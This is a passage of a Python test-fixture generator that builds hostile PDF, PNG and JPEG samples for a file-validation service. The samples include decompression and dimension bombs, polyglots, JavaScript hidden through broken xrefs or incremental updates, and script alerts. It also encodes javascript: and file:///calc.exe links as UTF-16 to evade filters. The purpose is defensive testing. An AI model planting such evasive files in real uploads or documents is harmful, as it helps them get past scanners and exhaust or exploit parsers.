        one_page(more=[stream(b"BT /F1 12 Tf (x) Tj ET\n" + zip_bytes())]),
        "a ZIP after page operators inside a FlateDecode stream (found by its end-of-central-directory record)",
    )
    add("zip_between_objects.pdf", one_page(between={3: zip_bytes()}), "ZIP bytes between two objects", FOREIGN)
    add("html_after_header.pdf", one_page(header_junk=b"<html><body><script>alert(document.domain)</script>\n"),
        "a PDF/HTML polyglot: HTML right after the %PDF- line", FOREIGN)  # fmt: skip
    add("html_in_comment.pdf", one_page(header_junk=b"%<html><script>alert(1)</script></html>\n"),
        "HTML hidden in a comment line", FOREIGN)  # fmt: skip
    add("trailing_payload.pdf", genuine + b"\n<script>alert(1)</script>\n", "data after the last %%EOF", FOREIGN)
    add("trailing_binary.pdf", genuine + _rng(3).randbytes(4096), "4 KiB of binary after %%EOF", FOREIGN)
    add("encrypted_user_password.pdf",
        resave(genuine, encryption=__import__("pikepdf").Encryption(owner="o", user="secret", R=6)),
        "AES-256 with a user password the service does not have", "encrypted_pdf")  # fmt: skip
    add("encrypted_rc4_user_password.pdf",
        resave(genuine, encryption=__import__("pikepdf").Encryption(owner="o", user="secret", R=3, metadata=False, aes=False)),
        "RC4-128 with a user password", "encrypted_pdf")  # fmt: skip
    bomb = flate_bomb_stream(64 * MiB)
    add("flate_bomb_64mib.pdf", one_page(more=[b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb
                                               + b"\nendstream"]),
        "a 64 kB stream inflating to 64 MiB (over the per-stream cap)", "inflated_too_large")  # fmt: skip
    add("image_dimension_bomb.pdf", one_page(more=[stream(bytes(1024), b"/Type /XObject /Subtype /Image /Width 100000 "
                                                          b"/Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 ")]),
        "an image XObject declaring 10^10 pixels", "inflated_too_large")  # fmt: skip
    overflow = flate_bomb_stream(64 * MiB)
    add("image_overflow_bomb.pdf", one_page(more=[
        b"<< /Length %d /Filter /FlateDecode /Type /XObject /Subtype /Image /Width 100 /Height 100 "
        b"/ColorSpace /DeviceGray /BitsPerComponent 8 >>\nstream\n" % len(overflow) + overflow + b"\nendstream"]),
        "a 100×100 image whose data inflates to 64 MiB", "inflated_too_large")  # fmt: skip
    add("deep_nesting_100.pdf", one_page(more=[b"[" * 100 + b"]" * 100]), "arrays nested 100 deep", "unreadable_pdf")
    add("deep_nesting_100000.pdf", one_page(more=[b"[" * 100000 + b"]" * 100000]),
        "arrays nested 100 000 deep (parser stack exhaustion)", "unreadable_pdf")  # fmt: skip
    add("broken_xref_hiding_js.pdf", _broken_xref_with_hidden_js(),
        "offsets wrong: xref reconstruction finds a JavaScript OpenAction", "unreadable_pdf")  # fmt: skip
    add("unreferenced_js_object.pdf", one_page(between={4: b"9 0 obj\n" + JS + b"\nendobj\n"}),
        "a JavaScript object present in the body but listed in no xref")  # fmt: skip
    add(
        "shadowed_js_revision.pdf",
        incremental(one_page(b"/OpenAction " + JS), {1: b"<< /Type /Catalog /Pages 2 0 R >>"}),
        "an incremental update hiding the first revision's JavaScript",
    )
    add(
        "shadowed_js_in_object_stream.pdf",
        _shadowed_in_object_stream(),
        "the catalog with a JavaScript OpenAction kept in an object stream, shadowed by an incremental update",
    )
    add("pdf_dct_dimension_bomb.pdf", one_page(more=[
        stream(_jpeg_bomb(good_jpeg_for_pdf), b"/Type /XObject /Subtype /Image /Width 100 /Height 100 "
               b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode ", compress=False)]),
        "a PDF image of 100×100 whose JPEG frame header declares 65000×65000", "inflated_too_large")  # fmt: skip
    add("object_hidden_in_stream.pdf", _object_inside_stream(), "an xref entry pointing inside another stream's data",
        FOREIGN)  # fmt: skip
    add("lzw_js_names.pdf", one_page(b"/Names << /JavaScript 6 0 R >>", more=[b"<< /Names [(a) << /S /JavaScript "
                                                                           b"/JS 7 0 R >>] >>",
                                                                           b"<< /Length 4 >>\nstream\nx=1;\nendstream"]),
        "document JavaScript with the code in a separate stream")  # fmt: skip
    add(
        "3d_annotation.pdf",
        one_page(page_extra=b"/Annots [6 0 R]", more=[b"<< /Type /Annot /Subtype /3D /Rect [0 0 100 100] >>"]),
        "a 3D (U3D) annotation (CVE-2009-2990 class)",
    )
    add("not_a_pdf_after_header.pdf", b"%PDF-1.7\n" + zip_bytes(), "a %PDF- header on a ZIP", "unreadable_pdf")
    noise = noisy_page(200, 200, seed=12, mode="RGB")
    good_png, good_jpeg = png(noise), jpeg(noise)
    add("png_garbage.png", b"\x89PNG\r\n\x1a\n" + _rng(4).randbytes(4000), "PNG magic, then noise",
        "not_an_image")  # fmt: skip
    add("png_truncated.png", good_png[: len(good_png) // 2], "a PNG cut in half", "not_an_image")
    add("png_bad_crc.png", good_png[:40] + bytes([good_png[40] ^ 0xFF]) + good_png[41:],
        "a PNG whose IDAT is corrupted", "not_an_image")  # fmt: skip
    add("png_bomb.png", _png_bomb(), "a PNG declaring 100000×100000 pixels in 10 kB", "inflated_too_large")
    add("png_zip_appended.png", good_png + zip_bytes(), "a PNG+ZIP polyglot", FOREIGN)
    add("jpeg_garbage.jpg", b"\xff\xd8\xff\xe0" + _rng(5).randbytes(4000), "JPEG magic, then noise",
        "not_an_image")  # fmt: skip
    add("jpeg_truncated.jpg", good_jpeg[: len(good_jpeg) // 2], "a JPEG cut in half", "not_an_image")
    add("jpeg_zip_appended.jpg", good_jpeg + zip_bytes(), "a JPEG+ZIP polyglot", FOREIGN)
    add("jpeg_mpf_then_zip.jpg", _mpo(noise) + zip_bytes(), "a Multi-Picture JPEG followed by a ZIP", FOREIGN)
    add("jpeg_html_appended.jpg", good_jpeg + b"<html><script>alert(1)</script></html>", "a JPEG/HTML polyglot",
        FOREIGN)  # fmt: skip
    add("jpeg_dimension_bomb.jpg", _jpeg_bomb(good_jpeg), "a JPEG whose frame header declares 65000×65000",
        "inflated_too_large")  # fmt: skip
    add("object_stream_bomb_16mib.pdf", object_stream_bomb(16 * MiB), "an object stream holding the page objects, "
        "then 16 MiB of zeros (ratio 1000)", "inflated_too_large")  # fmt: skip
    add("object_stream_bomb_disguised.pdf", object_stream_bomb(16 * MiB, disguised=True), "an object stream bomb "
        "saying /Subtype /Image, its /Type an indirect /ObjStm (qpdf resolves it)", "inflated_too_large")  # fmt: skip
    add("xref_stream_bomb_16mib.pdf", xref_stream_bomb(16 * MiB), "a cross-reference stream inflating to 16 MiB "
        "(ratio 1000)", "inflated_too_large")  # fmt: skip
    add("zip_in_image_stream.pdf", one_page(more=[stream(zip_bytes().rjust(30000, b"\0"), b"/Type /XObject "
        b"/Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8 ", compress=False)]),
        "a PDF/ZIP polyglot: the ZIP in an uncompressed image stream (unzip -l lists it)", FOREIGN)  # fmt: skip
    add("zip_in_png_chunk.png", good_png[:33] + _png_chunk(b"zzIP", zip_bytes()) + good_png[33:],
        "a PNG/ZIP polyglot: the ZIP in a private ancillary chunk", FOREIGN)  # fmt: skip
    app15 = b"\xff\xef" + (len(zip_bytes()) + 2).to_bytes(2, "big") + zip_bytes()
    add("zip_in_jpeg_segment.jpg", good_jpeg[:2] + app15 + good_jpeg[2:],
        "a JPEG/ZIP polyglot: the ZIP in an APP15 segment", FOREIGN)  # fmt: skip
    for label, target in (("javascript", "javascript:app.alert(1)"), ("file", "file:///C:/Windows/System32/calc.exe")):
        text = b"<" + ("\ufeff" + target).encode("utf-16-be").hex().encode() + b">"
        add(f"uri_utf16_{label}.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI " + text + b" >> >>"]),
            f"a link to {target.split(':')[0]}: written as a UTF-16 string with its BOM")  # fmt: skip
    add("pdf_renamed.png", genuine, "a PDF named .png", "extension_mismatch")
    add("png_renamed.pdf", good_png, "a PNG named .pdf", "extension_mismatch")
    add("pdf_with_junk_prefix.pdf", b"JUNK" * 25 + genuine, "100 bytes before %PDF-", "unsupported_type")
    return files


def _attach(pdf: object, pikepdf: object) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, zip_bytes(), mime_type="application/zip")  # type: ignore[attr-defined]
    pdf.attachments["facture.zip"] = spec  # type: ignore[attr-defined]


def _broken_xref_with_hidden_js() -> bytes:
    data = one_page(more=[JS])
    catalog = data.index(b"1 0 obj")
    # the catalog listed in the xref is the clean one; a second catalog with the OpenAction sits in the file body
    data = data.replace(b"/Type /Catalog /Pages 2 0 R >>", b"/Type /Catalog /Pages 2 0 R /OpenAction 6 0 R>>", 1)
    return data[:catalog] + b"\n\n" + data[catalog:]  # every offset now two bytes off


def _shadowed_in_object_stream() -> bytes:
    import pikepdf

    base = resave(one_page(b"/OpenAction " + JS), object_stream_mode=_mode("generate"))
    with pikepdf.open(io.BytesIO(base)) as pdf:
        root, pages = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0]
    return incremental(base, {root: b"<< /Type /Catalog /Pages %d 0 R >>" % pages}, root=root)


def _object_inside_stream() -> bytes:
    """Object 7 is listed at an offset inside object 6's stream data, where a copy of an object sits."""
    hidden = b"7 0 obj\n<< /Type /Metadata >>\nendobj\n"
    data = one_page(more=[stream(b"xx" + hidden, compress=False), b"<< >>"])
    start = data.index(hidden)
    header = data.index(b"xref\n0 8\n") + len(b"xref\n0 8\n")
    entry = header + 7 * 20
    return data[:entry] + b"%010d" % start + data[entry + 10 :]


def _png_bomb() -> bytes:
    width = height = 100000

    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes((8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(10 * MiB), 9)) + chunk(
        b"IEND", b"")  # fmt: skip


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


def _jpeg_bomb(good: bytes) -> bytes:
    out = bytearray(good)
    for marker in (b"\xff\xc0", b"\xff\xc2"):
        at = out.find(marker)
        if at != -1:
            out[at + 5 : at + 9] = (65000).to_bytes(2, "big") * 2
    return bytes(out)


# -- writing ----------------------------------------------------------------------------------------------------


def write(root: Path = ROOT) -> dict[str, dict[str, str | None]]:
    manifest: dict[str, dict[str, str | None]] = {}
    for group, files in (("genuine", genuine_files()), ("hostile", hostile_files())):
        folder = root / group
        folder.mkdir(parents=True, exist_ok=True)
        for old in folder.iterdir():
            old.unlink()
        for name, (data, what, code) in sorted(files.items()):
            (folder / name).write_bytes(data)
            manifest[f"{group}/{name}"] = {"exercises": what, "expected": code}
    for name, (_, what, code) in sorted(heavy_files().items()):
        group = "genuine" if code is None else "hostile"
        manifest[f"{group}/{name}"] = {"exercises": what, "expected": code, "built_at_test_time": "heavy_files()"}
    (root / "manifest.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=False, sort_keys=True) + "\n")
    return manifest


if __name__ == "__main__":
    written = write(Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT)
    print(f"{sum(v['expected'] is None for v in written.values())} genuine, "
          f"{sum(v['expected'] is not None for v in written.values())} hostile")  # fmt: skip
